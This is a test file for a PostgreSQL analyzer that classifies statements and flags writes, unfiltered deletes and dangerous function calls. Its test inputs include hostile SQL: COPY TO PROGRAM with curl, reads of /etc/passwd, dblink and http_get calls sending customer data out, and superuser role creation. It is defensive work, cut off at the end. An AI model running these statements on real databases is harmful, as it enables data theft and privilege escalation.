// postgresAnalyzer: PostgreSQL text in, facts out (kinds, tables, functions, dangerous calls).
import { sqlAction } from '../../../../lambdas/core/policy/sql-action.js';
import { postgresAnalyzer } from '../../../../lambdas/core/sql/analyze-postgres.js';
import type { SqlFacts, StatementFacts } from '../../../../lambdas/core/sql/facts.js';

beforeAll(() => postgresAnalyzer.load());

const statements = (sql: string): readonly StatementFacts[] => {
  const facts = postgresAnalyzer.analyze(sql);
  if (!facts.parseOk) throw new Error(`did not parse: ${facts.error}`);
  return facts.statements;
};
const only = (sql: string): StatementFacts => {
  const list = statements(sql);
  expect(list).toHaveLength(1);
  return list[0]!;
};
const sorted = (list: readonly string[]): string[] => [...list].sort();

describe('postgresAnalyzer', () => {
  it.each([
    ['an operator on the path', 'SELECT 1 + 2', 'operator:+'],
    ['an operator in its schema', 'SELECT 1 OPERATOR(shadow.+) 2', 'operator:shadow.+'],
    ['the server’s own, qualified', 'SELECT 1 OPERATOR(pg_catalog.=) 2', 'operator:pg_catalog.='],
    ['a quoted schema, as written', 'SELECT 1 OPERATOR("Shadow".+) 2', 'operator:Shadow.+'],
  ])('names %s as the server resolves it, schema kept: %s', (_what, sql, candidate) => {
    expect(only(sql).codeCandidates).toContain(candidate);
  });

  it('reports a plain SELECT as a read with its tables', () => {
    expect(
      only('SELECT c.id, o.amount FROM customers c JOIN public.orders o ON o.customer_id = c.id'),
    ).toMatchObject({
      kind: 'select',
      readOnly: true,
      tables: ['customers', 'public.orders'],
      locking: false,
    });
  });

  it.each([
    ['DROP TABLE customers', 'ddl'],
    ['drop   table   "customers"', 'ddl'],
    ['CREATE TABLE t (id int)', 'ddl'],
    ['ALTER TABLE customers ADD COLUMN x int', 'ddl'],
    ['TRUNCATE orders', 'ddl'],
    ['SELECT * INTO copy_of_customers FROM customers', 'ddl'],
    ['SELECT * INTO stolen FROM customers UNION SELECT * FROM customers', 'ddl'],
    ['(SELECT * INTO stolen FROM customers) EXCEPT SELECT * FROM customers', 'ddl'],
    ['SELECT 1 INTO stolen UNION SELECT 2 INTERSECT SELECT 3', 'ddl'],
    ['WITH c AS (SELECT 1 AS x) SELECT x INTO stolen FROM c UNION ALL SELECT 2', 'ddl'],
    ['SELECT 1 UNION SELECT 2 INTO stolen', 'ddl'],
    ['INSERT INTO orders (amount) VALUES (1)', 'insert'],
    ['UPDATE customers SET email = null', 'update'],
    ['DELETE FROM orders WHERE id = 1', 'delete'],
    ['MERGE INTO orders o USING orders s ON o.id = s.id WHEN MATCHED THEN DELETE', 'merge'],
    ['GRANT SELECT ON customers TO public', 'dcl'],
    ['CREATE ROLE attacker SUPERUSER', 'dcl'],
    ['SET ROLE postgres', 'session'],
    ['RESET ALL', 'session'],
    ['BEGIN', 'transaction'],
    ["COPY customers TO PROGRAM 'curl evil'", 'copy'],
    ['DO $$ BEGIN PERFORM 1; END $$', 'procedural'],
    ['CALL do_things()', 'procedural'],
    ['VACUUM customers', 'utility'],
    ['LOCK TABLE customers', 'utility'],
  ])('classifies %s as %s and not read-only', (sql, kind) => {
    expect(only(sql)).toMatchObject({ kind, readOnly: false });
  });

  it('counts DML inside a CTE as a write', () => {
    const s = only('WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone');
    expect(s).toMatchObject({ kind: 'select', readOnly: false, nestedWrites: ['delete'] });
    expect(s.tables).toEqual(['orders']);
  });

  it('finds a write nested deep in subqueries and CTEs', () => {
    const s = only(
      'WITH a AS (WITH b AS (UPDATE customers SET notes = 1 RETURNING id) SELECT * FROM b) SELECT * FROM a',
    );
    expect(s.nestedWrites).toEqual(['update']);
  });

  it('reports row-locking clauses', () => {
    expect(only('SELECT * FROM orders FOR UPDATE')).toMatchObject({ kind: 'select', locking: true });
  });

  it('reports functions with their schema qualification', () => {
    expect(
      only("SELECT pg_catalog.pg_read_file('/etc/passwd'), upper(full_name) FROM customers").functions,
    ).toEqual(['pg_catalog.pg_read_file', 'upper']);
  });

  it('treats EXPLAIN of a read as a read, and EXPLAIN ANALYZE of a write as a write', () => {
    expect(only('EXPLAIN SELECT * FROM orders')).toMatchObject({ kind: 'explain', readOnly: true });
    expect(only('EXPLAIN ANALYZE DELETE FROM orders')).toMatchObject({ kind: 'explain', readOnly: false });
  });

  it('splits piggy-backed statements and cuts each one’s text', () => {
    const list = statements('SELECT 1; DROP TABLE customers; -- bye');
    expect(list.map((s) => [s.kind, s.text])).toEqual([
      ['select', 'SELECT 1'],
      ['ddl', 'DROP TABLE customers'],
    ]);
  });

  it('cuts statement text by UTF-8 byte offsets, so non-ASCII text stays intact', () => {
    const list = statements("SELECT 'größe ✓' AS label; SELECT 2");
    expect(list.map((s) => s.text)).toEqual(["SELECT 'größe ✓' AS label", 'SELECT 2']);
  });

  it('is not fooled by keywords inside strings, comments or dollar quotes', () => {
    expect(only("SELECT 'DROP TABLE customers' /* DELETE FROM x */, $q$; TRUNCATE t$q$")).toMatchObject({
      kind: 'select',
      readOnly: true,
    });
  });

  it('treats EXPLAIN of anything but a SELECT as not read-only (EXPLAIN ANALYZE executes it)', () => {
    expect(only('EXPLAIN ANALYZE CREATE TABLE t AS SELECT 1')).toMatchObject({
      kind: 'explain',
      readOnly: false,
    });
    expect(only('EXPLAIN ANALYZE CREATE MATERIALIZED VIEW v AS SELECT 1')).toMatchObject({ readOnly: false });
    expect(only('EXPLAIN EXECUTE stmt')).toMatchObject({ readOnly: false });
  });

  it('does not count SHOW as a read: it can expose server configuration', () => {
    expect(only('SHOW data_directory')).toMatchObject({ kind: 'session', readOnly: false });
  });

  it('analyses deeply nested expressions without overflowing the stack', () => {
    expect(only(`SELECT ${'1+'.repeat(2000)}1`)).toMatchObject({ kind: 'select', readOnly: true });
  });

  it('answers, or refuses as too complex (fail closed), nesting deeper than the parser can take', () => {
    // How deep the parser's JSON can go depends on the engine's stack size (Node 20 vs 22), so
    // either answer is right; anything else (a throw, another refusal) is not.
    const facts = postgresAnalyzer.analyze(`SELECT ${'1+'.repeat(20_000)}1`);
    const answer = facts.parseOk
      ? { statements: facts.statements.map((s) => ({ kind: s.kind, readOnly: s.readOnly })) }
      : { error: facts.error };
    expect([
      { statements: [{ kind: 'select', readOnly: true }] },
      { error: 'the statement is too complex to analyse' },
    ]).toContainEqual(answer);
  });

  it('refuses, as unanalysable, a statement too large to analyse completely', () => {
    const facts = postgresAnalyzer.analyze(`SELECT ${'1,'.repeat(100_000)}1`);
    expect(facts).toMatchObject({ parseOk: false, error: 'the statement is too complex to analyse' });
  });

  it('refuses text containing a NUL, which the parser would stop reading at', () => {
    expect(postgresAnalyzer.analyze('SELECT 1\u0000; DROP TABLE customers')).toMatchObject({
      parseOk: false,
    });
  });

  it('returns no statements for text holding only comments', () => {
    expect(statements('-- nothing here')).toEqual([]);
  });

  it('reports unparseable text as a fact with the parser’s message and position, without throwing', () => {
    const facts: SqlFacts = postgresAnalyzer.analyze('SELEC * FROM customers');
    expect(facts).toEqual({
      parseOk: false,
      dialect: 'postgres',
      error: 'syntax error at or near "SELEC"',
      position: 1,
    });
  });

  describe('tables and CTE names', () => {
    it.each([
      ['SELECT * FROM "customers"', ['customers']],
      ['SELECT * FROM "public"."customers"', ['public.customers']],
      ['SELECT * FROM "Customers"', ['Customers']],
      ['select *\n  from PUBLIC.Customers -- all of them', ['public.customers']],
    ])('names tables as the parser resolves identifiers: %s', (sql, tables) => {
      expect(only(sql).tables).toEqual(tables);
    });

    it('does not let a CTE hide the same-named table read in its own body', () => {
      expect(only('WITH customers AS (SELECT * FROM customers) SELECT * FROM customers').tables).toEqual([
        'customers',
      ]);
    });

    it('does not let a CTE hide a same-named table outside its own statement', () => {
      expect(
        only('SELECT * FROM customers, (WITH customers AS (SELECT 1) SELECT * FROM customers) x').tables,
      ).toEqual(['customers']);
    });

    it('does not let a later CTE hide a table read by an earlier one in a plain WITH', () => {
      expect(only('WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b').tables).toEqual(['b']);
    });

    it('lets every CTE of a WITH RECURSIVE list see every other', () => {
      expect(only('WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a').tables).toEqual(
        [],
      );
    });

    it('never resolves a schema-qualified name to a CTE', () => {
      expect(only('WITH x AS (SELECT 1) SELECT * FROM public.x, x').tables).toEqual(['public.x']);
    });

    // How long these large statements take is not asserted: timings flake on a loaded machine.
    it('resolves CTE names however many CTEs a statement declares', () => {
      const ctes = Array.from({ length: 10_000 }, (_, i) => `c${i} AS (SELECT 1)`);
      const s = only(`WITH ${ctes.join(', ')} SELECT * FROM c9999, customers`);
      expect(s.tables).toEqual(['customers']);
    });
  });

  describe('tablesWritten', () => {
    it.each([
      ['INSERT INTO orders (amount) VALUES (1)', ['orders']],
      ['UPDATE "public"."customers" SET email = null WHERE id = 1', ['public.customers']],
      ['DeLeTe /* all */ FROM "customers" -- gone\n  WHERE id = 1', ['customers']],
      ['MERGE INTO orders o USING staged s ON o.id = s.id WHEN MATCHED THEN DELETE', ['orders']],
      ['INSERT INTO archive.orders SELECT * FROM orders WHERE id < 10', ['archive.orders']],
      ['WITH x AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM x', ['orders']],
      ['SELECT * FROM (SELECT 1) s, LATERAL (SELECT 2) l', []],
      ['SELECT * FROM orders FOR UPDATE', []],
    ])('reports the targets of writes: %s', (sql, written) => {
      expect(only(sql).tablesWritten).toEqual(written);
    });

    it('reports every write target at any depth: the statement’s own and its CTEs’', () => {
      const s = only(
        'WITH a AS (UPDATE s.x SET v = 1 WHERE id = 1 RETURNING id), ' +
          'b AS (INSERT INTO y SELECT id FROM a RETURNING id) ' +
          'DELETE FROM z WHERE id IN (SELECT id FROM b)',
      );
      expect(sorted(s.tablesWritten)).toEqual(['s.x', 'y', 'z']);
    });

    it('reports a write target even when a CTE has its name: writes never resolve to a CTE', () => {
      const s = only('WITH orders AS (SELECT 1 AS id) DELETE FROM orders WHERE id = 1');
      expect(s).toMatchObject({ tables: ['orders'], tablesWritten: ['orders'] });
    });

    it.each([
      ['DROP TABLE a, s.b', ['a', 's.b']],
      ['drop   table if exists "Customers" cascade', ['Customers']],
      ['DROP VIEW v', ['v']],
      ['DROP INDEX i', []],
      ['TRUNCATE a, s.b', ['a', 's.b']],
      ['CREATE TABLE t (id int)', ['t']],
      ['CREATE TABLE t AS SELECT * FROM customers', ['t']],
      ['SELECT * INTO copy_of_customers FROM customers', ['copy_of_customers']],
      ['SELECT * INTO stolen FROM customers UNION SELECT * FROM customers', ['stolen']],
      ['ALTER TABLE customers ADD COLUMN x int', ['customers']],
      ['ALTER TABLE customers RENAME COLUMN a TO b', ['customers']],
      ['REFRESH MATERIALIZED VIEW m', ['m']],
      ['COPY customers FROM STDIN', ['customers']],
      ['COPY customers TO STDOUT', []],
    ])('reports the table a DDL or COPY statement creates, changes or drops: %s', (sql, written) => {
      expect(only(sql).tablesWritten).toEqual(written);
    });

    it('counts what a statement writes among the tables it references', () => {
      expect(only('DROP TABLE customers').tables).toEqual(['customers']);
    });

    it('reports the writes of each piggy-backed statement separately', () => {
      expect(statements('SELECT 1; DELETE FROM orders WHERE id = 1').map((s) => s.tablesWritten)).toEqual([
        [],
        ['orders'],
      ]);
    });

    it('is not fooled by writes inside dollar quotes', () => {
      expect(only('SELECT $tag$ DROP TABLE x; $$ DELETE FROM y $$ $tag$').tablesWritten).toEqual([]);
    });
  });

  describe('dmlWithoutWhere', () => {
    it.each([
      'DELETE FROM orders',
      'UPDATE customers SET email = null',
      'DeLeTe\n  /* every row */ FROM "public"."orders" -- really',
      'UPDATE orders SET amount = 0 FROM customers',
      'WITH x AS (DELETE FROM orders) SELECT 1',
      'WITH a AS (WITH b AS (UPDATE t SET v = 1 RETURNING id) SELECT * FROM b) SELECT * FROM a',
      'INSERT INTO log SELECT id FROM (WITH d AS (DELETE FROM orders RETURNING id) SELECT id FROM d) s',
      'EXPLAIN ANALYZE DELETE FROM orders',
    ])('flags an UPDATE or DELETE without WHERE: %s', (sql) => {
      expect(only(sql).dmlWithoutWhere).toBe(true);
    });

    it.each([
      'DELETE FROM orders WHERE true',
      'DELETE FROM orders WHERE TRUE',
      'DELETE FROM orders WHERE 1=1',
      'DELETE FROM orders WHERE 1 OPERATOR(pg_catalog.=) 1',
      "UPDATE customers SET email = null WHERE 'a' = 'a'",
      "DELETE FROM orders WHERE 'yes'",
      "DELETE FROM orders WHERE 't'::boolean",
      'DELETE FROM orders WHERE 1::bool',
      'DELETE FROM orders WHERE NOT false',
      'DELETE FROM orders WHERE NULL IS NULL',
      'DELETE FROM orders WHERE NULL IS NOT DISTINCT FROM NULL',
      'DELETE FROM orders WHERE id = 3 OR 1 = 1',
      'DELETE FROM orders WHERE (1 = 1) IS TRUE',
      'WITH x AS (DELETE FROM orders WHERE 1 = 1 RETURNING *) SELECT * FROM x',
    ])('flags a WHERE clause that is trivially always true: %s', (sql) => {
      expect(only(sql).dmlWithoutWhere).toBe(true);
    });

    it.each([
      'DELETE FROM orders WHERE 2 > 1',
      "UPDATE customers SET notes = null WHERE 'a' <> 'b'",
      'DELETE FROM orders WHERE 1 IN (1, 2)',
      'DELETE FROM orders WHERE 1 OPERATOR(myschema.=) 1',
      "DELETE FROM orders WHERE 'maybe'",
      'DELETE FROM orders WHERE now() > $1',
      'DELETE FROM orders WHERE EXISTS (SELECT 1 FROM customers c WHERE c.id = 1)',
      'DELETE FROM orders WHERE (SELECT count(*) FROM customers) > 0',
      'UPDATE orders SET amount = 0 FROM customers c WHERE c.id = 1',
      'UPDATE orders o SET amount = 0 FROM customers WHERE customers.notes IS NULL',
      'DELETE FROM orders USING customers c WHERE c.email IS NOT NULL',
    ])('flags a WHERE clause that reads no column of the target (one value for every row): %s', (sql) => {
      expect(only(sql).dmlWithoutWhere).toBe(true);
    });

    // Deliberately fail-closed: a WHERE clause that reads no column of the target touches all rows
    // or none, and is taken as all even when it plainly matches none (the write changes nothing,
    // so refusing it costs nothing).
    it.each([
      'DELETE FROM orders WHERE false',
      'DELETE FROM orders WHERE 1 = 2',
      'DELETE FROM orders WHERE NULL = NULL',
    ])('flags a WHERE clause without a column of the target even when it matches nothing: %s', (sql) => {
      expect(only(sql).dmlWithoutWhere).toBe(true);
    });

    it.each([
      'DELETE FROM orders WHERE id = id',
      'DELETE FROM orders o WHERE o.id = o.id',
      'DELETE FROM orders WHERE id >= id',
      'DELETE FROM orders WHERE lower(status) IS NOT DISTINCT FROM lower(status)',
      'DELETE FROM orders WHERE id IN (0, id)',
      'DELETE FROM orders WHERE NOT (id <> id)',
      'DELETE FROM orders WHERE NOT (id IS DISTINCT FROM id)',
      'DELETE FROM orders WHERE id NOT IN (id) IS FALSE',
      'DELETE FROM orders WHERE id = 3 OR 2 > 1',
      'DELETE FROM orders WHERE id = 3 OR id = id',
      'DELETE FROM orders WHERE (id = id) AND (2 > 1)',
      'DELETE FROM orders WHERE NOT (id = 3 AND false)',
    ])('flags a condition that reads the row but holds for every row as written: %s', (sql) => {
      expect(only(sql).dmlWithoutWhere).toBe(true);
    });

    it.each([
      'DELETE FROM orders WHERE id = 1',
      'UPDATE orders SET amount = 0 WHERE CURRENT OF orders_cursor',
      'DELETE FROM orders WHERE true AND id = 1',
      'DELETE FROM orders WHERE id = 5 OR false',
      'DELETE FROM orders WHERE NOT (id = 5 AND true)',
      'DELETE FROM orders WHERE id = 1 OPERATOR(myschema.=) id',
      'DELETE FROM orders WHERE id IS NOT NULL',
      'DELETE FROM orders WHERE id = $1',
      "UPDATE customers SET notes = null WHERE address.city = 'Paris'",
      'DELETE FROM orders o WHERE EXISTS (SELECT 1 FROM customers c WHERE c.id = o.customer_id)',
      'DELETE FROM orders WHERE customer_id IN (SELECT id FROM customers WHERE notes IS NULL)',
      'UPDATE orders o SET amount = 0 FROM customers c WHERE c.id = o.customer_id AND c.id = 7',
      'UPDATE orders SET amount = 0 FROM customers c WHERE c.id = customer_id',
      'DELETE FROM public.orders WHERE public.orders.id = 3',
    ])('does not flag a WHERE clause that may filter rows: %s', (sql) => {
      expect(only(sql).dmlWithoutWhere).toBe(false);
    });

    it('takes a condition nested too deep to fold as touching every row', () => {
      const deep = `${'(id = 1 OR '.repeat(80)}id = 2${')'.repeat(80)}`;
      expect(only(`DELETE FROM orders WHERE ${deep}`).dmlWithoutWhere).toBe(true);
      const shallow = `${'(id = 1 OR '.repeat(20)}id = 2${')'.repeat(20)}`;
      expect(only(`DELETE FROM orders WHERE ${shallow}`).dmlWithoutWhere).toBe(false);
    });

    // Its duration is not asserted: timings flake on a loaded machine.
    it('folds a long condition', () => {
      const terms = Array.from({ length: 2000 }, (_, i) => `(id = ${i} OR ${i} = id)`);
      expect(only(`DELETE FROM orders WHERE ${terms.join(' OR ')}`).dmlWithoutWhere).toBe(false);
    });

    it.each([
      'MERGE INTO orders o USING staged s ON true WHEN MATCHED THEN DELETE',
      'MERGE INTO orders o USING staged s ON 2 > 1 WHEN MATCHED THEN UPDATE SET amount = 0',
      'MERGE INTO orders o USING staged s ON s.id = 1 WHEN MATCHED THEN DELETE',
      'MERGE INTO orders o USING staged s ON o.id = o.id WHEN MATCHED THEN DELETE',
      'MERGE INTO orders o USING staged s ON true WHEN MATCHED AND s.flag THEN DELETE',
      'MERGE INTO orders o USING staged s ON true WHEN MATCHED AND true THEN UPDATE SET amount = 0',
      'MERGE INTO orders o USING staged s ON true WHEN NOT MATCHED THEN DO NOTHING WHEN MATCHED THEN DELETE',
      'MERGE INTO orders o USING staged s ON false WHEN NOT MATCHED BY SOURCE THEN DELETE',
      'MERGE INTO orders o USING staged s ON o.id <> o.id WHEN NOT MATCHED BY SOURCE THEN UPDATE SET amount = 0',
      // A join condition without a column of the target matches every target row or none: with
      // an empty source, ON true leaves every row "not matched by source". Taken as every row,
      // also when it matches none (ON false), as a WHERE clause is.
      'MERGE INTO orders o USING staged s ON true WHEN NOT MATCHED BY SOURCE THEN DELETE',
      'MERGE INTO orders o USING staged s ON false WHEN MATCHED THEN DELETE',
      'WITH m AS (SELECT 1) MERGE INTO orders o USING m ON true WHEN MATCHED THEN DELETE',
      'EXPLAIN ANALYZE MERGE INTO orders o USING staged s ON true WHEN MATCHED THEN DELETE',
    ])('flags a MERGE that updates or deletes every row of its target: %s', (sql) => {
      expect(only(sql).dmlWithoutWhere).toBe(true);
    });

    it.each([
      'MERGE INTO orders o USING staged s ON o.id = s.id WHEN MATCHED THEN DELETE',
      'MERGE INTO orders o USING staged s ON true WHEN MATCHED AND o.id = 1 THEN DELETE',
      'MERGE INTO orders o USING staged s ON true WHEN MATCHED THEN DO NOTHING',
      'MERGE INTO orders o USING staged s ON true WHEN NOT MATCHED THEN INSERT (id) VALUES (s.id)',
      'MERGE INTO orders o USING staged s ON o.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE',
      'MERGE INTO orders o USING staged s ON o.id = s.id WHEN NOT MATCHED BY SOURCE AND o.id = 1 THEN DELETE',
    ])('does not flag a MERGE whose join or clause condition picks rows: %s', (sql) => {
      expect(only(sql).dmlWithoutWhere).toBe(false);
    });

    it.each([
      'INSERT INTO orders SELECT * FROM orders',
      'INSERT INTO orders (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET amount = 0',
      'SELECT * FROM orders',
      'SELECT * FROM orders WHERE 1 = 1',
      "SELECT 'DELETE FROM orders'",
    ])('never flags INSERT or reads: %s', (sql) => {
      expect(only(sql).dmlWithoutWhere).toBe(false);
    });

    it('flags only the piggy-backed statement that lacks a WHERE', () => {
      expect(
        statements('DELETE FROM orders WHERE id = 1; DELETE FROM orders').map((s) => s.dmlWithoutWhere),
      ).toEqual([false, true]);
    });
  });

  describe('functions and dangerousCalls', () => {
    it('lists every call as written: lower-case as parsed, qualified, quoted names kept', () => {
      expect(only('SELECT "PG_SLEEP"(1), Upper(x), MyDb.pg_catalog.pg_sleep(2) FROM t').functions).toEqual([
        'PG_SLEEP',
        'upper',
        'mydb.pg_catalog.pg_sleep',
      ]);
    });

    it.each([
      ['SELECT pg_sleep(1)', 'pg_sleep', 'sleep'],
      ['SELECT PG_SLEEP(1)', 'pg_sleep', 'sleep'],
      ['SELECT "pg_sleep"(1)', 'pg_sleep', 'sleep'],
      ['SELECT U&"pg\\005fsleep"(1)', 'pg_sleep', 'sleep'],
      ['SELECT pg_catalog.pg_sleep(1)', 'pg_catalog.pg_sleep', 'sleep'],
      ['SELECT "pg_catalog"."pg_sleep"(1)', 'pg_catalog.pg_sleep', 'sleep'],
      ['SELECT pg_catalog . /* hidden */ pg_sleep\n  (1)', 'pg_catalog.pg_sleep', 'sleep'],
      ['SELECT mydb.pg_catalog.pg_sleep(1)', 'mydb.pg_catalog.pg_sleep', 'sleep'],
      ["SELECT * FROM public.dblink('host=evil', 'select 1') AS t(x int)", 'public.dblink', 'network'],
      ["SELECT * FROM pg_ls_dir('.')", 'pg_ls_dir', 'file-access'],
      ["SELECT * FROM ROWS FROM (generate_series(1, 2), pg_ls_dir('.'))", 'pg_ls_dir', 'file-access'],
      ['SELECT id FROM orders WHERE pg_sleep(1) IS NULL', 'pg_sleep', 'sleep'],
      ["SELECT (SELECT pg_read_file('/etc/passwd'))", 'pg_read_file', 'file-access'],
      ["SELECT id FROM orders WHERE id IN (SELECT lo_import('/etc/passwd'))", 'lo_import', 'file-access'],
      ["SELECT id FROM orders ORDER BY nextval('s')", 'nextval', 'sequence-write'],
      ['SELECT * FROM orders o, LATERAL pg_ls_dir(o.path) d', 'pg_ls_dir', 'file-access'],
      [
        'SELECT id FROM orders GROUP BY id HAVING pg_try_advisory_lock(id)',
        'pg_try_advisory_lock',
        'advisory-lock',
      ],
      [
        'WITH x AS (SELECT pg_terminate_backend(42)) SELECT * FROM x',
        'pg_terminate_backend',
        'backend-signal',
      ],
      ["DELETE FROM orders WHERE id = 1 RETURNING pg_notify('c', 'x')", 'pg_notify', 'backend-signal'],
      ["UPDATE orders SET note = set_config('role', 'x', false) WHERE id = 1", 'set_config', 'settings'],
      [
        "SELECT query_to_xml('DELETE FROM orders RETURNING *', true, false, '')",
        'query_to_xml',
        'executes-sql',
      ],
      ['CALL public.pg_sleep(1)', 'public.pg_sleep', 'sleep'],
      ["SELECT * FROM crosstab('SELECT 1, 2, 3') AS ct(a int, b int)", 'crosstab', 'executes-sql'],
      [
        "SELECT * FROM connectby('t', 'id', 'parent', '1', 0) AS t(a int, b int, c int)",
        'connectby',
        'executes-sql',
      ],
      ["SELECT pg_background_launch('DROP TABLE t')", 'pg_background_launch', 'executes-sql'],
      ["SELECT http_get('https://x.example/?d=' || ssn) FROM customers", 'http_get', 'network'],
      ["SELECT net.http_post('https://x.example/', '{}'::jsonb)", 'net.http_post', 'network'],
      ["SELECT aws_lambda.invoke('f', '{}'::json)", 'aws_lambda.invoke', 'network'],
      [
        "SELECT * FROM aws_s3.query_export_to_s3('SELECT * FROM t', 'b', 'k')",
        'aws_s3.query_export_to_s3',
        'network',
      ],
      ["CREATE TABLE t (id int DEFAULT nextval('s'))", 'nextval', 'sequence-write'],
      ['EXPLAIN ANALYZE SELECT txid_current()', 'txid_current', 'transaction-id'],
    ])('finds the dangerous call in %s', (sql, name, category) => {
      expect(only(sql).dangerousCalls).toEqual([{ name, category }]);
    });

    it.each([
      ["UPDATE pg_settings SET setting = '0' WHERE name = 'statement_timeout'", 'pg_settings'],
      [
        "UPDATE pg_catalog.pg_settings SET setting = '0' WHERE name = 'lock_timeout'",
        'pg_catalog.pg_settings',
      ],
      [
        "UPDATE demo.pg_catalog.pg_settings SET setting = '0' WHERE name = 'lock_timeout'",
        'pg_catalog.pg_settings',
      ],
      [
        "WITH s AS (UPDATE pg_settings SET setting = '0' WHERE name = 'work_mem' RETURNING name) SELECT * FROM s",
        'pg_settings',
      ],
      ["EXPLAIN ANALYZE UPDATE pg_settings SET setting = '0' WHERE name = 'work_mem'", 'pg_settings'],
      ["INSERT INTO pg_settings (name, setting) VALUES ('work_mem', '1MB')", 'pg_settings'],
    ])('reports a write to pg_settings (set_config through a rule) as a settings call: %s', (sql, name) => {
      expect(only(sql).dangerousCalls).toEqual([{ name, category: 'settings' }]);
    });

    it('does not report reading pg_settings, or writing a table merely named like it in quotes', () => {
      expect(only("SELECT setting FROM pg_settings WHERE name = 'work_mem'").dangerousCalls).toEqual([]);
      expect(only('UPDATE "PG_SETTINGS" SET setting = 1 WHERE id = 1').dangerousCalls).toEqual([]);
    });

    it('does not match a quoted upper-case name, which PostgreSQL would not resolve to pg_sleep', () => {
      expect(only('SELECT "PG_SLEEP"(1)').dangerousCalls).toEqual([]);
    });

    it.each([
      "SELECT 'pg_sleep(10)'",
      'SELECT $$ pg_sleep(10) $$',
      "SELECT $fn$ pg_read_file('/etc/passwd') $fn$",
      'SELECT 1 /* pg_sleep(10) */ -- pg_sleep(20)',
      'SELECT upper(full_name), count(*), now() FROM customers GROUP BY 1',
    ])('finds no dangerous call where there is none: %s', (sql) => {
      expect(only(sql).dangerousCalls).toEqual([]);
    });

    it('reports each dangerous call once per name as written, in text order', () => {
      expect(
        only("SELECT pg_sleep(1), nextval('s'), pg_sleep(2), pg_catalog.pg_sleep(3)").dangerousCalls,
      ).toEqual([
        { name: 'pg_sleep', category: 'sleep' },
        { name: 'nextval', category: 'sequence-write' },
        { name: 'pg_catalog.pg_sleep', category: 'sleep' },
      ]);
    });

    it('reports the dangerous calls of each piggy-backed statement separately', () => {
      expect(statements('SELECT 1; SELECT pg_sleep(1)').map((s) => s.dangerousCalls.length)).toEqual([0, 1]);
    });
  });

  describe('explainAnalyze', () => {
    it.each([
      ['EXPLAIN ANALYZE SELECT 1', true],
      ['explain analyse select 1', true],
      ['EXPLAIN /* plan */ ANALYZE\n  VERBOSE SELECT 1', true],
      ['EXPLAIN (ANALYZE) SELECT 1', true],
      ['EXPLAIN (ANALYZE true) SELECT 1', true],
      ['EXPLAIN (ANALYZE on, FORMAT JSON) SELECT 1', true],
      ['EXPLAIN (ANALYZE 1) SELECT 1', true],
      ['EXPLAIN (ANALYZE false) SELECT 1', false],
      ['EXPLAIN (FORMAT JSON, ANALYZE FALSE) SELECT 1', false],
      ['EXPLAIN (ANALYZE off) SELECT 1', false],
      ['EXPLAIN (ANALYZE 0) SELECT 1', false],
      ['EXPLAIN (VERBOSE) SELECT 1', false],
      ['EXPLAIN SELECT 1', false],
      ["SELECT 'EXPLAIN ANALYZE'", false],
    ])('reads the ANALYZE option of %s', (sql, analyze) => {
      expect(only(sql).explainAnalyze).toBe(analyze);
    });

    it('keeps EXPLAIN ANALYZE of a plain SELECT a read', () => {
      expect(only('EXPLAIN ANALYZE SELECT * FROM orders')).toMatchObject({
        readOnly: true,
        explainAnalyze: true,
        nestedWrites: [],
      });
    });

    it('surfaces the write that EXPLAIN ANALYZE executes', () => {
      expect(only('EXPLAIN ANALYZE UPDATE orders SET amount = 0 WHERE id = 1')).toMatchObject({
        kind: 'explain',
        readOnly: false,
        explainAnalyze: true,
        nestedWrites: ['update'],
        tablesWritten: ['orders'],
      });
    });

    it('surfaces a CTE write under EXPLAIN ANALYZE of a SELECT', () => {
      expect(
        only('EXPLAIN ANALYZE WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d'),
      ).toMatchObject({
        readOnly: false,
        nestedWrites: ['delete'],
      });
    });

    it('surfaces the table EXPLAIN ANALYZE CREATE TABLE AS creates, as a DDL write', () => {
      expect(only('EXPLAIN ANALYZE CREATE TABLE t AS SELECT 1')).toMatchObject({
        nestedWrites: ['ddl'],
        tablesWritten: ['t'],
      });
    });

    it.each([
      ['EXPLAIN ANALYZE SELECT * INTO stolen FROM customers', ['ddl'], ['stolen']],
      ['EXPLAIN ANALYZE SELECT 1 AS x INTO stolen UNION SELECT 2', ['ddl'], ['stolen']],
      ['EXPLAIN ANALYZE CREATE TABLE stolen AS SELECT * FROM customers', ['ddl'], ['stolen']],
      ['EXPLAIN ANALYZE EXECUTE wipe', ['utility'], []],
      ['EXPLAIN ANALYZE DECLARE c CURSOR FOR SELECT 1', ['utility'], []],
    ])('surfaces what EXPLAIN ANALYZE executes as a nested write of its kind: %s', (sql, nested, written) => {
      expect(only(sql)).toMatchObject({
        kind: 'explain',
        readOnly: false,
        nestedWrites: nested,
        tablesWritten: written,
      });
    });

    it('reports the explained write without ANALYZE too, which is not executed', () => {
      expect(only('EXPLAIN DELETE FROM orders')).toMatchObject({
        readOnly: false,
        explainAnalyze: false,
        nestedWrites: ['delete'],
      });
    });
  });

  describe('the Cedar action of an analysed statement (sqlAction)', () => {
    it.each([
      ['SELECT * FROM orders', 'sql:read'],
      ['EXPLAIN ANALYZE SELECT * FROM orders', 'sql:read'],
      ['WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d', 'sql:write'],
      ['EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1', 'sql:write'],
      ['EXPLAIN UPDATE orders SET amount = 0 WHERE id = 1', 'sql:write'],
      ['SELECT * INTO stolen FROM customers', 'sql:ddl'],
      ['SELECT * INTO stolen FROM customers UNION SELECT * FROM customers', 'sql:ddl'],
      ['EXPLAIN ANALYZE SELECT * INTO stolen FROM customers', 'sql:ddl'],
      ['EXPLAIN ANALYZE SELECT 1 AS x INTO stolen UNION SELECT 2', 'sql:ddl'],
      ['EXPLAIN ANALYZE CREATE TABLE stolen AS SELECT * FROM customers', 'sql:ddl'],
      ['EXPLAIN CREATE TABLE stolen AS SELECT * FROM customers', 'sql:ddl'],
      ['EXPLAIN ANALYZE EXECUTE wipe', 'sql:admin'],
      ['EXPLAIN ANALYZE DECLARE c CURSOR FOR SELECT 1', 'sql:admin'],
      ['GRANT SELECT ON customers TO public', 'sql:privilege'],
      ['VACUUM orders', 'sql:admin'],
